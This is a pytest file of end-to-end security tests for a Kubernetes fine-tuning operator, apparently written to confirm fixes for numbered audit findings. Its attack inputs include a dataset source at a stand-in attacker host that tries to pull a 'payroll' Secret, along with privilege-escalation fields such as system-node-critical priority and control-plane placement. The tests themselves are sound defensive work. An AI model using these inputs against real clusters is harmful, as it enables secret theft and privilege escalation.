"""Attacks by users with real RBAC rights, each with the number of its finding."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from tests.e2e import metrics
from tests.e2e.authors import AUTHOR, EDITOR, admit, make_editor, submit
from tests.support.attacks.credentials import UNUSABLE, leaks
from tests.support.local_cluster import locks, pods
from tests.support.local_cluster.pods import Task
from tests.support.local_cluster.target import Cluster
from tests.support.local_cluster.tuning import Tuning, small

from finetune_operator import health
from finetune_operator.metrics_server import server

LOCKS: dict[str, locks.How] = {locks.OPERATOR: "shared"}

SECONDS = 600.0
HUGE = {"memory": "1Ti"}
"""More than the node has: the pod stays Pending."""


@pytest.mark.finding(1, "a Secret's content is published")
def test_private_key_as_a_token_is_not_published(
    cluster: Cluster, tuning: Tuning, workspace: str
) -> None:
    kubectl, key = cluster.kubectl, UNUSABLE["PEM"]
    # Without this permission, the admission policy rejects the reference.
    use = {"apiGroups": [""], "resources": ["secrets"], "verbs": ["use"]}
    admit(cluster, workspace, {**use, "resourceNames": ["payroll"]})
    kubectl.apply(
        {
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {"name": "payroll", "namespace": workspace},
            "stringData": {"tls.key": key},
        }
    )
    author = (f"--as={AUTHOR}", f"--namespace={workspace}")
    assert kubectl.attempt("auth", "can-i", "get", "secrets", *author).stdout.strip() == "no"
    token = {"tokenSecretRef": {"name": "payroll", "key": "tls.key"}}
    job = {
        "apiVersion": "finetune.dev/v1alpha1",
        "kind": "FineTuneJob",
        "metadata": {"name": tuning.name, "namespace": workspace},
        "spec": small(dataset=token),
    }
    kubectl.run("create", *author, "-f", "-", stdin=json.dumps(job))
    tuning.wait_until("Stalled", reason="AccessDenied", seconds=SECONDS)
    assert "dataset.tokenSecretRef contains a line break" in tuning.message()
    (pod,) = tuning.pods("prepare")
    published = {
        "job": kubectl.run("get", "ftj", tuning.name, *author, "-o", "json"),
        "pods": kubectl.run("get", "pods", f"--namespace={workspace}", "-o", "json"),
        "events": kubectl.run("get", "events", f"--namespace={workspace}", "-o", "json"),
        "log": kubectl.logs(pod["metadata"]["name"], workspace),
    }
    assert "AccessDenied" in published["log"]
    assert {name: found for name, text in published.items() if (found := leaks(text, key))} == {}


@pytest.mark.finding(11, "prepare connects to private addresses")
def test_source_at_a_private_address_is_denied_before_the_connection(
    cluster: Cluster, tuning: Tuning, workspace: str
) -> None:
    """The address is that of the API server; the NetworkPolicy alone would cause a time-out."""
    api = cluster.kubectl.get("service", "kubernetes", "default")["spec"]["clusterIP"]
    source = {"source": f"https://{api}/rows.jsonl", "sha256": "0" * 64, "tokenSecretRef": None}
    tuning.apply(small(dataset=source))
    tuning.wait_until("Stalled", reason="AccessDenied", seconds=SECONDS)
    assert f"do not allow connections to port 443 of {api}" in tuning.message()
    assert "egress.cidrs" in tuning.message()


@pytest.mark.finding(13, "metrics of all tenants are readable by every pod")
def test_tenant_reads_no_metric_of_the_operator(cluster: Cluster, workspace: str) -> None:
    """Neither from a pod, whose connection is blocked, nor with a token from the node."""
    host = cluster.wait_for_operator()["status"]["podIP"]
    addresses = [f"{host}:{port}" for port in (server.PORT, health.PORT)]
    task = Task(script="reach.py", image=cluster.operator_image(), given=addresses)
    found = pods.run(cluster, workspace, task)
    assert "connected" not in found.values(), found
    account = ("default", f"--namespace={workspace}")
    tenant = cluster.kubectl.run("create", "token", *account).strip()
    assert [metrics.get(host, token)[0] for token in ("", tenant)] == [401, 403]
    assert "finetune_jobs" in metrics.scrape(cluster, host)


@pytest.mark.finding(6, "a job reaches nodes, priorities, devices and Secrets")
def test_a_job_author_reaches_nothing_beyond_the_policy(
    cluster: Cluster, tuning: Tuning, workspace: str
) -> None:
    admit(cluster, workspace)
    kubectl = cluster.kubectl
    secret = {"apiVersion": "v1", "kind": "Secret", "stringData": {"token": "s3cret"}}
    kubectl.apply({**secret, "metadata": {"name": "payroll", "namespace": workspace}})
    attacks: dict[str, dict[str, Any]] = {
        "spec.priorityClassName": {"priorityClassName": "system-node-critical"},
        "spec.placement.tolerations": {"placement": {"tolerations": [{"operator": "Exists"}]}},
        "spec.placement.nodeSelector": {
            "placement": {"nodeSelector": {"node-role.kubernetes.io/control-plane": ""}}
        },
        "spec.resources.prepare": {
            "resources": {"prepare": {"limits": {"nvidia.com/mig-3g.40gb": "7"}}}
        },
        "spec.dataset.tokenSecretRef": {
            "dataset": {
                "source": "https://attacker.example/rows.jsonl",
                "sha256": "0" * 64,
                "tokenSecretRef": {"name": "payroll"},
            }
        },
        "spec.access.serviceAccountName": {"access": {"serviceAccountName": "default"}},
        "spec.model.source": {"model": {"source": "pvc://payroll/models"}},
    }
    for field, change in attacks.items():
        assert f"denied request: {field}: " in submit(cluster, tuning, small(**change)), field
    left = kubectl.run("get", "ftj,jobs,pods", f"--namespace={workspace}", "-o", "name")
    assert left.split() == []


@pytest.fixture
def gpus() -> Iterator[None]:
    """A shared lock on the GPUs, for a job that reaches training."""
    with locks.shared(locks.GPUS):
        yield


@pytest.mark.usefixtures("gpus")
@pytest.mark.finding(8, "a stage trusts the manifest next to the files")
def test_weights_that_an_editor_replaced_are_not_trained(
    cluster: Cluster, tuning: Tuning, workspace: str
) -> None:
    """Weights and manifest match each other, but not the ledger."""
    make_editor(cluster, workspace)
    tuning.apply(small(resources={"train": {"requests": HUGE, "limits": HUGE}}))
    tuning.wait_until("DataReady", seconds=SECONDS)
    claim = f"{tuning.name}-{tuning.status()['revision']}"
    task = Task(script="stay.py", image=cluster.operator_image(), writable={"/work": claim})
    with pods.started(cluster, workspace, task, user=EDITOR) as name:
        cluster.record.wait(
            f"pod {name} runs",
            lambda: (
                (cluster.record.find("Pod", workspace, name) or {}).get("status", {}).get("phase")
                == "Running"
            ),
            seconds=SECONDS,
        )
        pods.inside(cluster, workspace, name, "tamper.py", "base", user=EDITOR)
    tuning.change(resources=None)
    tuning.wait_until("Stalled", reason="ResumeRefused", seconds=SECONDS)
    assert "base/ is not the folder that was published" in tuning.message()
